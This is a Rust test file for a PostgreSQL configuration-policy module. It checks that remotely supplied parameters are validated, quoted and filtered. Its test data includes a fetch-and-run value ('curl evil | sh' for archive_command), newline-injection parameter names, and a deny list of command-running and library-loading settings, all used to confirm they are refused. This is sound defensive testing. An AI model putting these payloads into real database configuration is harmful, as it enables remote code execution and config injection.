//! Tests of the policy module.
use super::*;
use proptest::prelude::*;
use serde_json::json;

fn names(v: &[&str]) -> BTreeSet<GucName> {
    v.iter().map(|n| GucName::parse(n).unwrap()).collect()
}

fn obj(v: Value) -> serde_json::Map<String, Value> {
    v.as_object().unwrap().clone()
}

#[test]
fn valid_names_are_normalised() {
    assert_eq!(
        GucName::parse("Shared_Buffers").unwrap().as_str(),
        "shared_buffers"
    );
    assert_eq!(
        GucName::parse("pgaudit.log").unwrap().as_str(),
        "pgaudit.log"
    );
    assert!(GucName::parse("_x1").is_ok());
}

#[test]
fn hostile_names_are_refused() {
    for bad in [
        "",
        "1abc",
        "a b",
        "a=b",
        "work_mem = '1GB'\narchive_command",
        "a\nb",
        "a\rb",
        "a'b",
        "a\"b",
        "a.b.c",
        ".a",
        "a.",
        "a-b",
        "ünïcode",
        "shared_buffers\u{0}",
        "a/b",
        "a;b",
    ] {
        assert!(GucName::parse(bad).is_err(), "{bad:?} accepted");
    }
    assert!(matches!(
        GucName::parse("include_dir"),
        Err(PolicyError::Directive(_))
    ));
    assert!(GucName::parse(&"a".repeat(MAX_NAME_LEN + 1)).is_err());
}

#[test]
fn values_are_quoted_and_control_characters_refused() {
    let n = GucName::parse("application_name").unwrap();
    let v = GucValue::from_json(&n, &json!("it's a \\ test")).unwrap();
    assert_eq!(v.quoted(), "'it''s a \\\\ test'");
    assert_eq!(
        GucValue::from_json(&n, &json!(true)).unwrap().as_str(),
        "on"
    );
    assert_eq!(
        GucValue::from_json(&n, &json!(128)).unwrap().as_str(),
        "128"
    );
    for bad in [json!("a\nb"), json!("a\rb"), json!("a\u{0}b")] {
        assert!(matches!(
            GucValue::from_json(&n, &bad),
            Err(PolicyError::ControlCharacter { .. })
        ));
    }
    for bad in [json!(null), json!([1]), json!({"a": 1})] {
        assert!(matches!(
            GucValue::from_json(&n, &bad),
            Err(PolicyError::BadType { .. })
        ));
    }
}

#[test]
fn commands_libraries_and_paths_are_local_only_even_if_allowlisted_locally() {
    let allow = names(&[
        "archive_command",
        "shared_preload_libraries",
        "ssl_key_file",
        "primary_conninfo",
        "dynamic_library_path",
        "full_page_writes",
        "archive_mode",
    ]);
    for (n, why) in [
        ("archive_command", LocalOnlyReason::RunsCommand),
        ("restore_command", LocalOnlyReason::RunsCommand),
        ("archive_cleanup_command", LocalOnlyReason::RunsCommand),
        ("recovery_end_command", LocalOnlyReason::RunsCommand),
        ("ssl_passphrase_command", LocalOnlyReason::RunsCommand),
        ("shared_preload_libraries", LocalOnlyReason::LoadsCode),
        ("session_preload_libraries", LocalOnlyReason::LoadsCode),
        ("local_preload_libraries", LocalOnlyReason::LoadsCode),
        ("archive_library", LocalOnlyReason::LoadsCode),
        ("dynamic_library_path", LocalOnlyReason::LoadsCode),
        ("jit_provider", LocalOnlyReason::LoadsCode),
        ("ssl_key_file", LocalOnlyReason::NamesPath),
        ("hba_file", LocalOnlyReason::NamesPath),
        ("data_directory", LocalOnlyReason::NamesPath),
        ("log_directory", LocalOnlyReason::NamesPath),
        ("promote_trigger_file", LocalOnlyReason::NamesPath),
        ("primary_conninfo", LocalOnlyReason::ManagedByPgkeep),
        ("full_page_writes", LocalOnlyReason::DataSafety),
        ("wal_log_hints", LocalOnlyReason::DataSafety),
        ("archive_mode", LocalOnlyReason::DataSafety),
    ] {
        let name = GucName::parse(n).unwrap();
        assert_eq!(admission(&name, &allow), Admission::LocalOnly(why), "{n}");
    }
}

#[test]
fn future_command_or_path_parameters_are_local_only_by_shape() {
    let none = BTreeSet::new();
    for n in [
        "frobnicate_command",
        "new_libraries",
        "some_key_file",
        "spool_dir",
        "x.search_path",
    ] {
        let name = GucName::parse(n).unwrap();
        assert!(
            matches!(admission(&name, &none), Admission::LocalOnly(_)),
            "{n}"
        );
    }
}

#[test]
fn tuning_parameters_pass_and_extensions_need_a_local_opt_in() {
    let raw = obj(json!({
        "work_mem": "64MB",
        "max_connections": 200,
        "hot_standby_feedback": true,
        "archive_command": "curl evil | sh",
        "pgaudit.log": "none",
        "Bad Name": "x",
    }));
    let (accepted, dropped) = filter_dynamic(&raw, &BTreeSet::new());
    let acc: Vec<_> = accepted.keys().map(GucName::as_str).collect();
    assert_eq!(acc, ["hot_standby_feedback", "max_connections", "work_mem"]);
    let mut d: Vec<_> = dropped.iter().map(|d| d.name.as_str()).collect();
    d.sort();
    assert_eq!(d, ["Bad Name", "archive_command", "pgaudit.log"]);
    let msg = dropped
        .iter()
        .find(|d| d.name == "archive_command")
        .unwrap()
        .to_string();
    assert!(msg.contains("operating-system command"), "{msg}");

    let (accepted, _) = filter_dynamic(&raw, &names(&["pgaudit.log"]));
    assert!(accepted.contains_key(&GucName::parse("pgaudit.log").unwrap()));
}

#[test]
fn values_that_break_replication_are_dropped() {
    let raw =
        obj(json!({"wal_level": "minimal", "max_wal_senders": 0, "max_replication_slots": "10"}));
    let (accepted, dropped) = filter_dynamic(&raw, &BTreeSet::new());
    let acc: Vec<_> = accepted.keys().map(GucName::as_str).collect();
    assert_eq!(acc, ["max_replication_slots"]);
    assert_eq!(dropped.len(), 2);
    assert!(
        dropped
            .iter()
            .all(|d| matches!(d.reason, DropReason::Unsafe(_)))
    );
    let raw = obj(json!({"log_min_messages": "panic"}));
    assert!(
        filter_dynamic(&raw, &BTreeSet::new()).0.is_empty(),
        "audit logging cannot be muted remotely"
    );
}

#[test]
fn local_layer_wins_and_render_has_one_assignment_per_line() {
    let baseline = check_local(&obj(json!({"work_mem": "4MB", "ssl": true}))).unwrap();
    let (dynamic, _) = filter_dynamic(
        &obj(json!({"work_mem": "64MB", "ssl": false})),
        &BTreeSet::new(),
    );
    let local = check_local(&obj(json!({"work_mem": "16MB"}))).unwrap();
    let merged = merge(&[&baseline, &dynamic, &local]);
    let text = render_conf("generated by pgkeep\nline two", &merged);
    assert_eq!(
        text,
        "# generated by pgkeep\n# line two\nssl = 'on'\nwork_mem = '16MB'\n"
    );
}

#[test]
fn local_config_rejects_malformed_names_naming_them() {
    let err = check_local(&obj(json!({"work_mem\nfsync": "off"}))).unwrap_err();
    assert!(err.to_string().contains("work_mem"), "{err}");
}

/// Parses a rendered file the way PostgreSQL's lexer would see it: each non-comment line must
/// be exactly `name = '<quoted>'`, and unquoting must give back the value.
fn parse_rendered(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for line in text.lines().filter(|l| !l.starts_with('#')) {
        let (name, rest) = line.split_once(" = ").expect("assignment");
        let inner = rest
            .strip_prefix('\'')
            .and_then(|r| r.strip_suffix('\''))
            .expect("quoted");
        let mut value = String::new();
        let mut chars = inner.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '\'' => {
                    assert_eq!(chars.next(), Some('\''), "lone quote in {line:?}");
                    value.push('\'');
                }
                '\\' => {
                    assert_eq!(chars.next(), Some('\\'), "lone backslash in {line:?}");
                    value.push('\\');
                }
                c => value.push(c),
            }
        }
        out.push((name.to_owned(), value));
    }
    out
}

proptest! {
    #[test]
    fn any_accepted_name_is_strictly_shaped(raw in "\\PC{0,40}") {
        if let Ok(n) = GucName::parse(&raw) {
            let s = n.as_str();
            prop_assert!(s.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_' || b == b'.'));
            prop_assert!(s.matches('.').count() <= 1);
            prop_assert!(!s.starts_with(|c: char| c.is_ascii_digit()));
        }
    }

    #[test]
    fn rendering_round_trips_any_accepted_input(
        entries in proptest::collection::btree_map("[a-zA-Z_][a-zA-Z0-9_]{0,10}(\\.[a-z_]{1,5})?|.{0,12}", ".{0,30}", 0..12)
    ) {
        let raw: serde_json::Map<String, Value> =
            entries.iter().map(|(k, v)| (k.clone(), Value::String(v.clone()))).collect();
        let mut expected = BTreeMap::new();
        for (k, v) in &raw {
            if let (Ok(n), Ok(val)) = (GucName::parse(k), GucValue::from_json(&GucName::parse("x").unwrap(), v)) {
                expected.insert(n.as_str().to_owned(), val.as_str().to_owned());
            }
        }
        let accepted: Parameters = raw
            .iter()
            .filter_map(|(k, v)| {
                let n = GucName::parse(k).ok()?;
                let val = GucValue::from_json(&n, v).ok()?;
                Some((n, val))
            })
            .collect();
        let rendered = render_conf("header\nwith 'quotes'\n", &accepted);
        let parsed: BTreeMap<_, _> = parse_rendered(&rendered).into_iter().collect();
        prop_assert_eq!(parsed, expected);
        prop_assert_eq!(rendered.lines().filter(|l| !l.starts_with('#')).count(), accepted.len());
    }

    #[test]
    fn dynamic_filter_never_admits_a_dangerous_parameter(
        suffix in "[a-z_]{0,8}",
        allow_any in proptest::bool::ANY,
    ) {
        let dangerous = [
            format!("{suffix}_command"),
            format!("{suffix}_file"),
            format!("x{suffix}_directory"),
            "archive_command".to_owned(),
            "shared_preload_libraries".to_owned(),
        ];
        for d in dangerous {
            let Ok(name) = GucName::parse(&d) else { continue };
            let allow: BTreeSet<_> = if allow_any { [name.clone()].into() } else { BTreeSet::new() };
            let raw = obj(json!({ d.clone(): "x" }));
            let (accepted, dropped) = filter_dynamic(&raw, &allow);
            prop_assert!(accepted.is_empty(), "{} admitted", d);
            prop_assert_eq!(dropped.len(), 1);
        }
    }
}
